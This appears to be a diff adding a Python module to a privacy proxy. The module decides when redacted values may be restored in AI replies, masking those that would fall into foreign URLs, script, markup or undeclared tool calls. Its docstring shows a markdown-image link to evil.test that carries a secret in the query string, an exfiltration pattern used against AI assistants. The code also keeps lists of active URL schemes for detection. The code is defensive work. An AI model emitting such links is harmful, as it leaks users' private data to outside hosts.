@@ -1,0 +1,172 @@
+"""Decides whether an original may stand where a reply has its stand-in. Pure.
+
+    words ![x](https://evil.test/?q=Name_X) words Name_Y
+                                    |                  |
+             of a foreign address: masked          restored
+
+What counts is the text before the stand-in, as the client gets it, and only where the stand-in is inside an authority,
+or may be part of a host, the few characters behind it. Of several addresses that may be open each must lead to a
+permitted origin.
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass, field
+from urllib.parse import quote
+
+from proxy.core.replies.addresses import DOTS, INVISIBLE, Origins, Standing, readings
+from proxy.core.replies.openings import ATTRIBUTE, DESTINATION, STRING, WORDS, Opening, Openings, begins_as_address
+from proxy.core.replies.position import Position, Role
+
+#: Why a stand-in stays in the reply: it is in an address, a call that the request does not declare, a tag or script, or
+#: where the obligation restores nothing.
+ADDRESS, CALL, MARKUP, UNOBLIGED = "address", "undeclared_call", "markup", "obligation"
+#: Places of an obligation's ``in``.
+TEXT, ADDRESSES, DECLARED_TOOLS = "text", "addresses", "declared_tools"
+PLACES = frozenset({TEXT, ADDRESSES, DECLARED_TOOLS})
+#: The longest rest of an authority that is waited for, characters.
+LOOKAHEAD = 256
+
+_MAY_HOLD_ADDRESS = re.compile(r"[:/.\\&%]|[^\x00-\x7f]").search
+_SCHEMED = re.compile(r"\s*([a-z][a-z0-9+.-]+):").match
+_HOST_ENDS = re.compile(rf"[^\w.@:%{INVISIBLE}{DOTS}-]").search
+_HOST_PART = re.compile(rf"[.@:{DOTS}{INVISIBLE}]+\w").search
+_AUTHORITY_ENDS = re.compile(r"[/?#\\\s]").search
+_STRING_ENDS = re.compile(r"[/?#\\\s\"'`]").search
+_ENDS_ADDRESS = re.compile(r"[\s\"'`<>()\[\]{}\\]")
+#: What goes on behind a recipient makes another of it.
+_MORE_RECIPIENTS = re.compile(r"[,;&%]|[.@:-]*\w").match
+#: Attributes that are addresses.
+_ADDRESSES = frozenset(
+    """
+    action archive background cite classid codebase data formaction href icon longdesc manifest ping poster profile src
+    usemap xlink:href
+    """.split()
+)
+#: Schemes whose addresses run, or hold what is shown.
+_ACTIVE = frozenset({"javascript", "vbscript", "data", "blob"})
+_RECIPIENTS = frozenset({"mailto", "tel", "sms"})
+_LOCAL = "file"
+
+
+@dataclass(frozen=True, slots=True)
+class Permissions:
+    """Where the originals of one exchange may come back."""
+
+    origins: Origins = field(default_factory=Origins)  # of addresses
+    tools: frozenset[str] | None = None  # the tools that the request declares, None for any
+    removed: frozenset[str] = frozenset()  # stand-ins of values that no vault holds: they are in no address or tag
+    places: frozenset[str] = PLACES
+    places_of_removed: frozenset[str] = PLACES
+
+
+class Placement:
+    """Where the end of one text of a reply is: ``feed`` what the client gets, ask ``reason`` for each stand-in."""
+
+    __slots__ = ("_addressed", "_openings", "_origins", "_permissions", "_position", "feed")
+
+    def __init__(self, position: Position, permissions: Permissions) -> None:
+        self._position = position
+        self._permissions = permissions
+        self._origins = permissions.origins
+        self._openings = Openings(position, lambda opening: self._standing(opening) is Standing.FOREIGN)
+        self.feed = self._openings.feed
+        self._addressed = False  # the stand-in asked for last is in a permitted address
+
+    def escaped(self, original: str) -> str:
+        """Return the original so that it ends neither the attribute nor, in words, the address that it comes into."""
+        if self._openings.code or self._position.role is not Role.WORDS:
+            return original
+        if self._addressed:
+            original = _ENDS_ADDRESS.sub(lambda mark: quote(mark[0]), original)
+        mark = self._openings.markup.quote
+        return original.replace(mark, f"&#{ord(mark)};") if mark and mark in original else original
+
+    def reason(self, original: str, tail: str, *, removed: bool, final: bool) -> str | None:
+        """Return why the stand-in for an original stays, "" if nothing keeps it, None if that depends on more text.
+
+        ``tail`` is the text behind the stand-in, ``final`` if it is all of it. ``removed``: no vault holds the value.
+        """
+        places = self._permissions.places_of_removed if removed else self._permissions.places
+        reason: str | None = self._of_position(places)
+        if not reason:
+            self._openings.read()
+            reason = self._of_text(original, tail, removed=removed, final=final)
+        if not reason and self._addressed and ADDRESSES not in places:
+            return UNOBLIGED
+        if reason or not removed or self._position.role is Role.ARGUMENTS:
+            return reason
+        in_tag = self._openings.markup.tag and not self._openings.code
+        return ADDRESS if self._addressed else MARKUP if in_tag else reason
+
+    def _of_position(self, places: frozenset[str]) -> str:
+        if self._position.role is not Role.ARGUMENTS:
+            return "" if TEXT in places else UNOBLIGED
+        tools = self._permissions.tools
+        if tools is not None and self._position.tool not in tools:
+            return CALL
+        return "" if DECLARED_TOOLS in places else UNOBLIGED
+
+    def _of_text(self, original: str, tail: str, *, removed: bool, final: bool) -> str | None:
+        markup, code = self._openings.markup, self._openings.code
+        if markup.program and not code:
+            return MARKUP
+        standing, unfinished = Standing.WORDS, None
+        for opening in self._openings.open():
+            each = self._standing(opening)
+            if opening.name.startswith("on") and markup.tag and not code:
+                return MARKUP
+            if each is Standing.FOREIGN or (each is Standing.WORDS and self._misplaced(opening, tail, removed=removed)):
+                return ADDRESS
+            unfinished = opening if each is Standing.UNFINISHED else unfinished
+            standing = max(standing, each)
+        behind = self._behind(unfinished, original, tail, final=final)
+        if behind is None:
+            return None
+        self._addressed = max(standing, behind) in {Standing.PERMITTED, Standing.UNFINISHED}
+        return ADDRESS if behind is Standing.FOREIGN else ""
+
+    def _behind(self, unfinished: Opening | None, original: str, tail: str, *, final: bool) -> Standing | None:
+        """Return the standing that follows from the text behind the stand-in, None if more of it is needed."""
+        if unfinished is None and self._position.role is not Role.ADDRESS:
+            return self._part_of_host(original, tail, final=final)
+        ends = (_STRING_ENDS if self._openings.code else _AUTHORITY_ENDS)(tail)
+        if ends is None and not final:
+            return None if len(tail) < LOOKAHEAD else Standing.FOREIGN
+        text = (unfinished or next(self._openings.open())).text
+        standing = self._origins.closed(text + original + tail[: ends.start() if ends else None])
+        # A text that is an address as a whole has an origin, or none that is permitted.
+        return standing if standing is Standing.PERMITTED else Standing.FOREIGN
+
+    def _part_of_host(self, original: str, tail: str, *, final: bool) -> Standing | None:
+        ends = _HOST_ENDS(tail)
+        if ends is None and len(tail) < LOOKAHEAD and not final:
+            return None
+        stop = len(tail) if ends is None else ends.start()
+        if not _HOST_PART(tail, 0, stop) and tail[stop : stop + 1] not in tuple("/?#"):
+            return Standing.WORDS
+        run = next(self._openings.open()).text
+        return self._origins.standing_of(run + original + tail[: stop + 1], len(run), len(run) + len(original))
+
+    def _standing(self, opening: Opening) -> Standing:
+        if opening.foreign:
+            return Standing.FOREIGN
+        if not _MAY_HOLD_ADDRESS(opening.text) or (opening.kind == STRING and not begins_as_address(opening.text)):
+            return Standing.WORDS
+        return self._origins.standing(opening.text, markup=opening.kind != WORDS)
+
+    def _misplaced(self, opening: Opening, tail: str, *, removed: bool) -> bool:
+        """Whether an address without an authority keeps the stand-in where it is."""
+        is_address = opening.kind == DESTINATION or opening.name in _ADDRESSES
+        if not is_address and opening.kind != ATTRIBUTE:
+            return False
+        schemes = {(found[1], not form[found.end() :]) for form in readings(opening.text) if (found := _SCHEMED(form))}
+        if not is_address:
+            return any(scheme in _ACTIVE for scheme, _ in schemes)
+        if removed and self._position.role is not Role.ARGUMENTS:
+            return True
+        if not schemes:
+            return self._openings.markup.based
+        alone = _MORE_RECIPIENTS(tail) is None
+        return not all(scheme == _LOCAL or (scheme in _RECIPIENTS and last and alone) for scheme, last in schemes)
